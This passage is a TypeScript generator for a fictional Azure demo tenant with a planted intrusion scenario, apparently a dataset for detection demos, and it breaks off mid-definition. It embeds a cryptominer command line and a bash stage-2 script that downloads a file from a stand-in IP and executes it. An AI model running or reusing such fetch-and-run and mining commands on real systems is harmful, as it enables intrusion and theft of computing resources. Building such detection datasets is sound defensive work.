/**
 * scripts/generate-demo.ts — writes the bundled demo tenant snapshot (demo/tenant/).
 *
 *   node_modules/.bin/node scripts/generate-demo.ts [--out <dir>] [--seed <n>]
 *
 * Self-contained: node: built-ins only, erasable TypeScript only (run by Node 24 with native
 * type stripping). Deterministic: one seeded PRNG (mulberry32), fixed base dates, no Date.now();
 * two runs with the same seed give byte-identical files (gzip mtime is 0 in node:zlib).
 *
 * Everything in here is FICTIONAL: GUIDs come from the PRNG, IPs are documentation ranges
 * (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), external hosts are *.example.{com,net,org},
 * storage keys and SAS signatures are random bytes. Shapes follow real Azure samples, cited next
 * to each builder (paths under /work/shared/reference/ or Azure/azure-rest-api-specs).
 */
import { createHash } from "node:crypto";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gzipSync } from "node:zlib";

// ---------------------------------------------------------------------------------------------
// Arguments
// ---------------------------------------------------------------------------------------------
const DEFAULT_OUT = "demo/tenant";
const DEFAULT_SEED = 20261123;

function parseArgs(argv: readonly string[]): { out: string; seed: number } {
  let out = DEFAULT_OUT;
  let seed = DEFAULT_SEED;
  for (let i = 0; i < argv.length; i++) {
    const a = nth(argv, i);
    if (a === "--out" || a === "--seed") {
      const v = argv[i + 1];
      if (v === undefined) throw new Error(`${a} needs a value`);
      i++;
      if (a === "--out") out = v;
      else seed = Number(v);
    } else if (a.startsWith("--out=")) out = a.slice("--out=".length);
    else if (a.startsWith("--seed=")) seed = Number(a.slice("--seed=".length));
    else if (a === "--help" || a === "-h") {
      process.stdout.write("usage: node scripts/generate-demo.ts [--out <dir>] [--seed <n>]\n");
      process.exit(0);
    } else throw new Error(`unknown argument: ${a}`);
  }
  if (!Number.isInteger(seed) || seed < 0 || seed > 0xffffffff)
    throw new Error(`--seed must be an integer in 0..4294967295, got ${seed}`);
  if (out.trim() === "") throw new Error("--out must not be empty");
  return { out, seed };
}

// ---------------------------------------------------------------------------------------------
// Seeded randomness
// ---------------------------------------------------------------------------------------------
type Rng = {
  next(): number;
  int(lo: number, hi: number): number;
  pick<T>(a: readonly T[]): T;
  chance(p: number): boolean;
  bytes(n: number): Buffer;
  hex(nBytes: number): string;
  guid(): string;
  b64(nBytes: number): string;
};

function makeRng(seed: number): Rng {
  let s = seed >>> 0;
  // mulberry32
  const next = (): number => {
    s = (s + 0x6d2b79f5) | 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number): number => lo + Math.floor(next() * (hi - lo + 1));
  const bytes = (n: number): Buffer => {
    const b = Buffer.alloc(n);
    for (let i = 0; i < n; i++) b[i] = Math.floor(next() * 256);
    return b;
  };
  return {
    next,
    int,
    pick: <T>(a: readonly T[]): T => nth(a, Math.floor(next() * a.length)),
    chance: (p: number): boolean => next() < p,
    bytes,
    hex: (n: number): string => bytes(n).toString("hex"),
    b64: (n: number): string => bytes(n).toString("base64"),
    guid: (): string => {
      const b = bytes(16);
      b.writeUInt8((b.readUInt8(6) & 0x0f) | 0x40, 6);
      b.writeUInt8((b.readUInt8(8) & 0x3f) | 0x80, 8);
      const h = b.toString("hex");
      return `${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}`;
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Time: 100-ns ticks since the Unix epoch as bigint (Azure timestamps carry 7 fractional digits)
// ---------------------------------------------------------------------------------------------
const DOTNET_EPOCH_TICKS = 621355968000000000n;
const DAY_MS = 86_400_000;
const WINDOW_FROM_MS = Date.UTC(2026, 9, 22); // 2026-10-22T00:00:00Z
const WINDOW_TO_MS = Date.UTC(2026, 10, 21); // 2026-11-21T00:00:00Z (30 days)
const WINDOW_DAYS = (WINDOW_TO_MS - WINDOW_FROM_MS) / DAY_MS;
const BASELINE_DAYS = 5; // every benign principal uses all its IPs / apps / operations before this

function ticksOfMs(ms: number, sub = 0): bigint {
  return BigInt(ms) * 10000n + BigInt(sub);
}
function addSeconds(t: bigint, s: number): bigint {
  return t + BigInt(Math.round(s * 1e7));
}
function msOf(t: bigint): number {
  return Number(t / 10000n);
}
/** 2026-11-19T02:04:11.1234567Z */
function iso7(t: bigint): string {
  const ms = Number(t / 10000n);
  const sub = Number(t % 10000n);
  return `${new Date(ms).toISOString().slice(0, 23)}${String(sub).padStart(4, "0")}Z`;
}
function iso3(ms: number): string {
  return new Date(ms).toISOString();
}
/** Docker/OCI style, nanoseconds: 2026-11-02T14:11:09.123456789Z */
function isoNano(ms: number, rng: Rng): string {
  return `${new Date(ms).toISOString().slice(0, 23)}${String(rng.int(0, 999999)).padStart(6, "0")}Z`;
}
function dotnetTicks(t: bigint): string {
  return (t + DOTNET_EPOCH_TICKS).toString();
}
function dayStartMs(day: number): number {
  return WINDOW_FROM_MS + day * DAY_MS;
}
function isWeekday(day: number): boolean {
  const wd = new Date(dayStartMs(day)).getUTCDay();
  return wd >= 1 && wd <= 5;
}
function ymd(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10).replaceAll("-", "");
}
function sha256Hex(s: string | Buffer): string {
  return createHash("sha256").update(s).digest("hex");
}
/**
 * A ustar archive of regular files (the layout GNU tar writes: 512-byte headers, octal fields,
 * checksum over the header with its own field as spaces, two zero blocks at the end). Fixed
 * owner and time, so the bytes, and so the digests, are the same on every run.
 */
function ustar(entries: readonly { path: string; text: string }[], mtimeSec: number): Buffer {
  const blocks: Buffer[] = [];
  const field = (h: Buffer, off: number, len: number, value: string) => h.write(value, off, len, "latin1");
  const oct = (n: number, len: number) => `${n.toString(8).padStart(len - 1, "0")}\0`;
  for (const e of entries) {
    const body = Buffer.from(e.text, "utf8");
    const h = Buffer.alloc(512);
    field(h, 0, 100, e.path);
    field(h, 100, 8, oct(0o644, 8));
    field(h, 108, 8, oct(0, 8));
    field(h, 116, 8, oct(0, 8));
    field(h, 124, 12, oct(body.length, 12));
    field(h, 136, 12, oct(mtimeSec, 12));
    field(h, 148, 8, "        ");
    field(h, 156, 1, "0");
    field(h, 257, 8, "ustar\u000000");
    field(h, 265, 32, "root");
    field(h, 297, 32, "root");
    let sum = 0;
    for (const b of h) sum += b;
    field(h, 148, 8, `${sum.toString(8).padStart(6, "0")}\0 `);
    blocks.push(h, body, Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}
/** a[i], which must exist (the project compiles with noUncheckedIndexedAccess) */
function nth<T>(a: readonly T[], i: number): T {
  const v = a[i];
  if (v === undefined) throw new Error(`index ${i} out of range (${a.length})`);
  return v;
}

// ---------------------------------------------------------------------------------------------
// Built-in role definitions, copied VERBATIM (full objects) from a real subscription's list:
//   /work/shared/reference/recorded/cloud-custodian/AccessControlTest.test_find_definition_by_name.json
//   interactions[0].response.body.data.value[]  (GET .../providers/Microsoft.Authorization/roleDefinitions,
//   api-version 2018-01-01-preview; cloud-custodian commit df800e9e94d0860e0d8fbfebd9bc5b9b2d50367d)
// Of the roles asked for, "Automation Contributor" is not in that recording, so it is absent here.
// Only the subscription in `id` is rewritten (ea42f556-… -> the demo prod subscription) when written out.
// ---------------------------------------------------------------------------------------------
const RECORDED_ROLE_DEFINITIONS_SUBSCRIPTION = "ea42f556-5106-4743-99b0-c129bfa71a47";
type RoleDefinition = {
  properties: {
    roleName: string;
    type: string;
    description: string;
    assignableScopes: string[];
    permissions: {
      actions: string[];
      notActions: string[];
      dataActions: string[];
      notDataActions: string[];
    }[];
    createdOn: string;
    updatedOn: string;
    createdBy: string | null;
    updatedBy: string | null;
  };
  id: string;
  type: string;
  name: string;
};
const BUILTIN_ROLE_DEFINITIONS: RoleDefinition[] = [
  {
    properties: {
      roleName: "Owner",
      type: "BuiltInRole",
      description: "Lets you manage everything, including access to resources.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: ["*"],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-02-02T21:55:09.8806423Z",
      updatedOn: "2019-02-05T21:24:32.2101122Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
  },
  {
    properties: {
      roleName: "Contributor",
      type: "BuiltInRole",
      description: "Lets you manage everything except access to resources.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: ["*"],
          notActions: [
            "Microsoft.Authorization/*/Delete",
            "Microsoft.Authorization/*/Write",
            "Microsoft.Authorization/elevateAccess/Action",
            "Microsoft.Blueprint/blueprintAssignments/write",
            "Microsoft.Blueprint/blueprintAssignments/delete",
          ],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-02-02T21:55:09.8806423Z",
      updatedOn: "2019-02-05T21:24:38.4580610Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/b24988ac-6180-42a0-ab88-20f7382dd24c",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "b24988ac-6180-42a0-ab88-20f7382dd24c",
  },
  {
    properties: {
      roleName: "Reader",
      type: "BuiltInRole",
      description: "Lets you view everything, but not make any changes.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: ["*/read"],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-02-02T21:55:09.8806423Z",
      updatedOn: "2019-02-05T21:24:35.7424745Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "acdd72a7-3385-48ef-bd42-f606fba81ae7",
  },
  {
    properties: {
      roleName: "Virtual Machine Contributor",
      type: "BuiltInRole",
      description:
        "Lets you manage virtual machines, but not access to them, and not the virtual network or storage account they're connected to.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: [
            "Microsoft.Authorization/*/read",
            "Microsoft.Compute/availabilitySets/*",
            "Microsoft.Compute/locations/*",
            "Microsoft.Compute/virtualMachines/*",
            "Microsoft.Compute/virtualMachineScaleSets/*",
            "Microsoft.DevTestLab/schedules/*",
            "Microsoft.Insights/alertRules/*",
            "Microsoft.Network/applicationGateways/backendAddressPools/join/action",
            "Microsoft.Network/loadBalancers/backendAddressPools/join/action",
            "Microsoft.Network/loadBalancers/inboundNatPools/join/action",
            "Microsoft.Network/loadBalancers/inboundNatRules/join/action",
            "Microsoft.Network/loadBalancers/probes/join/action",
            "Microsoft.Network/loadBalancers/read",
            "Microsoft.Network/locations/*",
            "Microsoft.Network/networkInterfaces/*",
            "Microsoft.Network/networkSecurityGroups/join/action",
            "Microsoft.Network/networkSecurityGroups/read",
            "Microsoft.Network/publicIPAddresses/join/action",
            "Microsoft.Network/publicIPAddresses/read",
            "Microsoft.Network/virtualNetworks/read",
            "Microsoft.Network/virtualNetworks/subnets/join/action",
            "Microsoft.RecoveryServices/locations/*",
            "Microsoft.RecoveryServices/Vaults/backupFabrics/backupProtectionIntent/write",
            "Microsoft.RecoveryServices/Vaults/backupFabrics/protectionContainers/protectedItems/*/read",
            "Microsoft.RecoveryServices/Vaults/backupFabrics/protectionContainers/protectedItems/read",
            "Microsoft.RecoveryServices/Vaults/backupFabrics/protectionContainers/protectedItems/write",
            "Microsoft.RecoveryServices/Vaults/backupPolicies/read",
            "Microsoft.RecoveryServices/Vaults/backupPolicies/write",
            "Microsoft.RecoveryServices/Vaults/read",
            "Microsoft.RecoveryServices/Vaults/usages/read",
            "Microsoft.RecoveryServices/Vaults/write",
            "Microsoft.ResourceHealth/availabilityStatuses/read",
            "Microsoft.Resources/deployments/*",
            "Microsoft.Resources/subscriptions/resourceGroups/read",
            "Microsoft.SqlVirtualMachine/*",
            "Microsoft.Storage/storageAccounts/listKeys/action",
            "Microsoft.Storage/storageAccounts/read",
            "Microsoft.Support/*",
          ],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-06-02T00:18:27.3542698Z",
      updatedOn: "2018-10-16T16:16:51.7928187Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/9980e02c-c2be-4d73-94e8-173b1dc7cf3c",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "9980e02c-c2be-4d73-94e8-173b1dc7cf3c",
  },
  {
    properties: {
      roleName: "Website Contributor",
      type: "BuiltInRole",
      description: "Lets you manage websites (not web plans), but not access to them.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: [
            "Microsoft.Authorization/*/read",
            "Microsoft.Insights/alertRules/*",
            "Microsoft.Insights/components/*",
            "Microsoft.ResourceHealth/availabilityStatuses/read",
            "Microsoft.Resources/deployments/*",
            "Microsoft.Resources/subscriptions/resourceGroups/read",
            "Microsoft.Support/*",
            "Microsoft.Web/certificates/*",
            "Microsoft.Web/listSitesAssignedToHostName/read",
            "Microsoft.Web/serverFarms/join/action",
            "Microsoft.Web/serverFarms/read",
            "Microsoft.Web/sites/*",
          ],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-05-12T23:10:23.6193952Z",
      updatedOn: "2019-02-05T21:24:46.9407288Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/de139f84-1756-47ae-9be6-808fbbe84772",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "de139f84-1756-47ae-9be6-808fbbe84772",
  },
  {
    properties: {
      roleName: "AcrPush",
      type: "BuiltInRole",
      description: "acr push",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: [
            "Microsoft.ContainerRegistry/registries/pull/read",
            "Microsoft.ContainerRegistry/registries/push/write",
          ],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2018-10-29T17:52:32.5201177Z",
      updatedOn: "2018-11-13T23:26:19.9749249Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/8311e382-0749-4cb8-b61a-304f252e45ec",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "8311e382-0749-4cb8-b61a-304f252e45ec",
  },
  {
    properties: {
      roleName: "AcrPull",
      type: "BuiltInRole",
      description: "acr pull",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: ["Microsoft.ContainerRegistry/registries/pull/read"],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2018-10-22T19:01:56.8227182Z",
      updatedOn: "2018-11-13T23:22:03.2302457Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/7f951dda-4ed3-4680-a7ca-43fe172d538d",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "7f951dda-4ed3-4680-a7ca-43fe172d538d",
  },
  {
    properties: {
      roleName: "User Access Administrator",
      type: "BuiltInRole",
      description: "Lets you manage user access to Azure resources.",
      assignableScopes: ["/"],
      permissions: [
        {
          actions: ["*/read", "Microsoft.Authorization/*", "Microsoft.Support/*"],
          notActions: [],
          dataActions: [],
          notDataActions: [],
        },
      ],
      createdOn: "2015-02-02T21:55:09.8806423Z",
      updatedOn: "2019-02-05T21:24:12.6807454Z",
      createdBy: null,
      updatedBy: null,
    },
    id: "/subscriptions/ea42f556-5106-4743-99b0-c129bfa71a47/providers/Microsoft.Authorization/roleDefinitions/18d7d88d-d35e-4fb5-a5c3-7773c20a72d9",
    type: "Microsoft.Authorization/roleDefinitions",
    name: "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9",
  },
];

const ROLE = {
  Owner: "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
  Contributor: "b24988ac-6180-42a0-ab88-20f7382dd24c",
  Reader: "acdd72a7-3385-48ef-bd42-f606fba81ae7",
  VirtualMachineContributor: "9980e02c-c2be-4d73-94e8-173b1dc7cf3c",
  WebsiteContributor: "de139f84-1756-47ae-9be6-808fbbe84772",
  AcrPull: "7f951dda-4ed3-4680-a7ca-43fe172d538d",
} as const;

function roleName(roleGuid: string): string {
  const d = BUILTIN_ROLE_DEFINITIONS.find((r) => r.name === roleGuid);
  if (!d) throw new Error(`no built-in role ${roleGuid}`);
  return d.properties.roleName;
}

// ---------------------------------------------------------------------------------------------
// Well-known first-party client application ids (appid claim)
// ---------------------------------------------------------------------------------------------
const APP_PORTAL = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"; // Azure Portal
const APP_AZ_CLI = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"; // Azure CLI (public client)

// The planted attack: fixed values (independent of the seed)
const ATTACK_IP = "203.0.113.77";
const ATTACK_DAY_MS = Date.UTC(2026, 10, 19); // 2026-11-19
const MINER_CMD =
  "/opt/xmrig/xmrig -o stratum+tcp://pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1";
const STAGE2_SCRIPT =
  "#!/bin/bash\ncurl -fsSL http://198.51.100.23/s2.sh -o /tmp/.s2 && chmod +x /tmp/.s2 && /tmp/.s2\n";
const EXTERNAL_PACKAGE_URL = "https://cdn-updates.example.net/pkg/sync.zip";

// ---------------------------------------------------------------------------------------------
// Model
// ---------------------------------------------------------------------------------------------
type Sub = {
  subscriptionId: string;
  displayName: string;
  format: "rest" | "export";
};
type ClientApp = { appid: string; acr: string };
type Principal = {
  key: string;
  kind: "User" | "ServicePrincipal";
  oid: string;
  displayName: string;
  upn: string | null;
  ips: string[];
  apps: ClientApp[];
};
type Phase = "Started" | "Accepted" | "Succeeded" | "Failed";
type Token = { iat: number; exp: number };
type Rec = {
  sub: Sub;
  resourceId: string;
  op: string;
  phase: Phase;
  subStatus: string;
  method: string;
  t: bigint;
  submitLagS: number;
  who: Principal;
  ip: string;
  app: ClientApp;
  token: Token;
  correlationId: string;
  operationId: string;
  eventDataId: string;
  clientRequestId: string;
  serviceRequestId: string | null;
  extra: Record<string, string>;
  attack: boolean;
};

const SUBSTATUS_TEXT: Record<string, string> = {
  "": "",
  OK: "OK (HTTP Status Code: 200)",
  Created: "Created (HTTP Status Code: 201)",
  Accepted: "Accepted (HTTP Status Code: 202)",
  BadRequest: "Bad Request (HTTP Status Code: 400)",
  Conflict: "Conflict (HTTP Status Code: 409)",
};

/** operationName.localizedValue — display names in the style of the resource providers' operations lists. */
const OP_DISPLAY: Record<string, string> = {
  "Microsoft.Compute/virtualMachines/start/action": "Start Virtual Machine",
  "Microsoft.Compute/virtualMachines/restart/action": "Restart Virtual Machine",
  "Microsoft.Compute/virtualMachines/deallocate/action": "Deallocate Virtual Machine",
  "Microsoft.Compute/disks/write": "Create or Update Disk",
  "Microsoft.Compute/virtualMachines/extensions/write": "Create or Update Virtual Machine Extension",
  "Microsoft.Compute/virtualMachines/runCommands/write": "Create or Update Virtual Machine Run Command",
  "Microsoft.Network/networkSecurityGroups/securityRules/write": "Create or Update Security Rule",
  "Microsoft.Storage/storageAccounts/write": "Create/Update Storage Account",
  "Microsoft.Resources/tags/write": "Write Tags",
  "Microsoft.Resources/deployments/write": "Create Deployment",
  "Microsoft.Web/sites/write": "Create or Update Web App",
  "Microsoft.Web/sites/restart/action": "Restart Web App",
  "Microsoft.Web/sites/config/write": "Update Web App Configuration",
  "Microsoft.Web/sites/extensions/write": "Create or Update Web App Extension",
  "Microsoft.Insights/diagnosticSettings/write": "Create or update resource diagnostic setting",
  "Microsoft.Authorization/roleAssignments/write": "Create role assignment",
  "Microsoft.ContainerRegistry/registries/importImage/action": "Import Image",
  "Microsoft.ContainerInstance/containerGroups/write": "Create or Update Container Group",
};

/** Provider namespace and resource type of a resource id: the last `/providers/<ns>/<type>/<name>[/<type>/<name>…]` wins. */
function parseResourceId(id: string): {
  rg: string;
  provider: string;
  type: string;
} {
  const rg = /\/resourceGroups\/([^/]+)/i.exec(id)?.[1] ?? "";
  const idx = id.toLowerCase().lastIndexOf("/providers/");
  const parts = id.slice(idx + "/providers/".length).split("/");
  const ns = nth(parts, 0);
  const types: string[] = [];
  for (let i = 1; i < parts.length; i += 2) types.push(nth(parts, i));
  return { rg, provider: ns, type: `${ns}/${types.join("/")}` };
}

function methodOf(op: string): string {
  if (op.endsWith("/action")) return "POST";
  if (op.endsWith("/delete")) return "DELETE";
  return "PUT";
}

// ---------------------------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------------------------
type Outputs = { files: Map<string, Buffer>; counts: Record<string, unknown> };

type OpKind = {
  op: string;
  accepted?: string;
  final: string;
  dur: [number, number];
  failures?: { subStatus: string; code: string; message: string }[];
  /** covered resource by resource during the baseline days (the monitoring-agent rollout) */
  rollout?: boolean;
};

type Assignment = {
  properties: {
    roleDefinitionId: string;
    principalId: string;
    principalType: string;
    scope: string;
    condition: null;
    conditionVersion: null;
    createdOn: string;
    updatedOn: string;
    createdBy: string;
    updatedBy: string;
    delegatedManagedIdentityResourceId: null;
    description: null;
  };
  id: string;
  type: string;
  name: string;
};

function generate(seed: number): Outputs {
  const rng = makeRng(seed);
  const files = new Map<string, Buffer>();
  const putJson = (path: string, value: unknown): void => {
    files.set(path, Buffer.from(`${JSON.stringify(value)}\n`));
  };

  // ----- tenant, subscriptions, identities --------------------------------------------------
  const TENANT = rng.guid();
  const prod: Sub = {
    subscriptionId: rng.guid(),
    displayName: "contoso-prod",
    format: "rest",
  };
  const dev: Sub = {
    subscriptionId: rng.guid(),
    displayName: "contoso-dev",
    format: "export",
  };
  const SUBS: Sub[] = [prod, dev];
  const hierarchy = (s: Sub): string => `${TENANT}/mg-contoso/${s.subscriptionId}`;
  const subScope = (s: Sub): string => `/subscriptions/${s.subscriptionId}`;
  const rgScope = (s: Sub, rg: string): string => `${subScope(s)}/resourceGroups/${rg}`;
  const rid = (s: Sub, rg: string, tail: string): string => `${rgScope(s, rg)}/providers/${tail}`;

  const PORTAL: ClientApp = { appid: APP_PORTAL, acr: "2" };
  const CLI: ClientApp = { appid: APP_AZ_CLI, acr: "0" };
  const mkUser = (key: string, name: string, ips: string[], apps: ClientApp[]): Principal => ({
    key,
    kind: "User",
    oid: rng.guid(),
    displayName: name,
    upn: `${key}@contoso.example.com`,
    ips,
    apps,
  });
  const alice = mkUser("alice.nguyen", "Alice Nguyen", ["198.51.100.14"], [PORTAL]);
  const bob = mkUser("bob.okafor", "Bob Okafor", ["198.51.100.15", "203.0.113.20"], [PORTAL, CLI]);
  const carla = mkUser("carla.mendes", "Carla Mendes", ["198.51.100.16"], [PORTAL]);
  const dmitri = mkUser("dmitri.volkov", "Dmitri Volkov", ["198.51.100.17", "198.51.100.40"], [CLI]);
  const priya = mkUser("priya.shah", "Priya Shah", ["198.51.100.18"], [PORTAL, CLI]);
  const ethan = mkUser("ethan.brooks", "Ethan Brooks", ["198.51.100.19", "203.0.113.45"], [PORTAL]);
  const fatima = mkUser("fatima.haddad", "Fatima Haddad", ["198.51.100.21"], [PORTAL]);
  const USERS = [alice, bob, carla, dmitri, priya, ethan, fatima];

  const SP_APP_ID = rng.guid();
  // The CI/CD runner authenticates with a certificate (appidacr "2"); the attacker holds a
  // leaked client secret of the same application (appidacr "1"): same objectId, same appid.
  const sp: Principal = {
    key: "sp-cicd-deploy",
    kind: "ServicePrincipal",
    oid: rng.guid(),
    displayName: "sp-cicd-deploy",
    upn: null,
    ips: ["192.0.2.10", "192.0.2.11"],
    apps: [{ appid: SP_APP_ID, acr: "2" }],
  };
  const ATTACKER_CLIENT: ClientApp = { appid: SP_APP_ID, acr: "1" };
  const ADMIN_OID = rng.guid(); // tenant admin who made the old assignments; not active in the window
  const READERS_GROUP_OID = rng.guid();
  const WEB_MI_OID = rng.guid(); // system-assigned identity of app-contoso-web
  const AMA_UAMI_NAME = "uami-ama";

  // ----- resource inventory ----------------------------------------------------------------
  type Vm = { sub: Sub; rg: string; name: string; id: string };
  const mkVm = (s: Sub, rg: string, name: string): Vm => ({
    sub: s,
    rg,
    name,
    id: rid(s, rg, `Microsoft.Compute/virtualMachines/${name}`),
  });
  const VMS_PROD = [
    mkVm(prod, "rg-app", "vm-app-01"),
    mkVm(prod, "rg-app", "vm-app-02"),
    mkVm(prod, "rg-web", "vm-web-01"),
    mkVm(prod, "rg-web", "vm-web-02"),
    mkVm(prod, "rg-data", "vm-data-01"),
  ];
  const VMS_DEV = [
    mkVm(dev, "rg-dev-app", "vm-dev-01"),
    mkVm(dev, "rg-dev-app", "vm-dev-02"),
    mkVm(dev, "rg-dev-build", "vm-build-01"),
  ];
  const diskIds = (vms: Vm[]): string[] => {
    const out: string[] = [];
    for (const v of vms) {
      out.push(rid(v.sub, v.rg, `Microsoft.Compute/disks/${v.name}_OsDisk_1_${rng.hex(16)}`));
      if (v.name === "vm-data-01" || v.name === "vm-app-01" || v.name === "vm-build-01")
        out.push(rid(v.sub, v.rg, `Microsoft.Compute/disks/${v.name}-data-00`));
    }
    return out;
  };
  const DISKS_PROD = diskIds(VMS_PROD);
  const DISKS_DEV = diskIds(VMS_DEV);
  const STORAGE_PROD = [
    rid(prod, "rg-app", "Microsoft.Storage/storageAccounts/stcontosofuncs"),
    rid(prod, "rg-data", "Microsoft.Storage/storageAccounts/stcontosodata"),
    rid(prod, "rg-monitor", "Microsoft.Storage/storageAccounts/stcontosodiag"),
  ];
  const STORAGE_DEV = [
    rid(dev, "rg-dev-app", "Microsoft.Storage/storageAccounts/stcontosodevfuncs"),
    rid(dev, "rg-dev-build", "Microsoft.Storage/storageAccounts/stcontosodevbuild"),
  ];
  const nsgRule = (s: Sub, rg: string, nsg: string, rule: string): string =>
    rid(s, rg, `Microsoft.Network/networkSecurityGroups/${nsg}/securityRules/${rule}`);
  const NSG_RULES_PROD = [
    nsgRule(prod, "rg-network", "nsg-app", "allow-https-in"),
    nsgRule(prod, "rg-network", "nsg-app", "allow-ssh-bastion"),
    nsgRule(prod, "rg-network", "nsg-app", "deny-internet-in"),
    nsgRule(prod, "rg-network", "nsg-web", "allow-https-in"),
    nsgRule(prod, "rg-network", "nsg-web", "allow-http-redirect"),
  ];
  const NSG_RULES_DEV = [
    nsgRule(dev, "rg-dev-network", "nsg-dev", "allow-ssh-office"),
    nsgRule(dev, "rg-dev-network", "nsg-dev", "allow-https-in"),
  ];

  type App = {
    sub: Sub;
    rg: string;
    name: string;
    id: string;
    kind: string;
    reserved: boolean;
    plan: string;
    linuxFxVersion: string;
    appCommandLine: string;
    ciConfig: "appsettings" | "web";
    ciExtension: string | null;
    settings: () => Record<string, string>;
  };
  const STORAGE_KEYS: Record<string, string> = {
    stcontosofuncs: rng.b64(64), // 88 base64 characters, fake
    stcontosodevfuncs: rng.b64(64),
  };
  const connString = (account: string): string =>
    `DefaultEndpointsProtocol=https;AccountName=${account};AccountKey=${STORAGE_KEYS[account]};EndpointSuffix=core.windows.net`;
  const sasPackageUrl = (account: string): string =>
    `https://${account}.blob.core.windows.net/packages/app.zip?sv=2024-11-04&se=2027-01-01T00%3A00%3A00Z&sr=b&sp=r&sig=${encodeURIComponent(rng.b64(32))}`;
  const appInsights = (): string =>
    `InstrumentationKey=${rng.guid()};IngestionEndpoint=https://eastus-8.in.applicationinsights.azure.com/;LiveEndpoint=https://eastus.livediagnostics.monitor.azure.com/;ApplicationId=${rng.guid()}`;
  const planId = (s: Sub, rg: string, name: string): string => rid(s, rg, `Microsoft.Web/serverfarms/${name}`);
  const mkApp = (a: Omit<App, "id">): App => ({
    ...a,
    id: rid(a.sub, a.rg, `Microsoft.Web/sites/${a.name}`),
  });

  const ordersSas = sasPackageUrl("stcontosofuncs");
  const ordersDevSas = sasPackageUrl("stcontosodevfuncs");
  const aiOrders = appInsights();
  const aiBilling = appInsights();
  const aiNotify = appInsights();
  const aiApi = appInsights();
  const aiDev = appInsights();
  const APPS_PROD: App[] = [
    mkApp({
      sub: prod,
      rg: "rg-app",
      name: "func-contoso-orders",
      kind: "functionapp,linux",
      reserved: true,
      plan: planId(prod, "rg-app", "asp-contoso-func"),
      linuxFxVersion: "Python|3.11",
      appCommandLine: "",
      ciConfig: "appsettings",
      ciExtension: null,
      settings: () => ({
        FUNCTIONS_EXTENSION_VERSION: "~4",
        FUNCTIONS_WORKER_RUNTIME: "python",
        AzureWebJobsStorage: connString("stcontosofuncs"),
        WEBSITE_RUN_FROM_PACKAGE: ordersSas,
        APPLICATIONINSIGHTS_CONNECTION_STRING: aiOrders,
        ORDERS_QUEUE_NAME: "orders-inbound",
      }),
    }),
    mkApp({
      sub: prod,
      rg: "rg-app",
      name: "func-contoso-billing",
      kind: "functionapp,linux",
      reserved: true,
      plan: planId(prod, "rg-app", "asp-contoso-func"),
      linuxFxVersion: "Node|20",
      appCommandLine: "",
      ciConfig: "appsettings",
      ciExtension: "zipdeploy",
      settings: () => ({
        FUNCTIONS_EXTENSION_VERSION: "~4",
        FUNCTIONS_WORKER_RUNTIME: "node",
        WEBSITE_NODE_DEFAULT_VERSION: "~20",
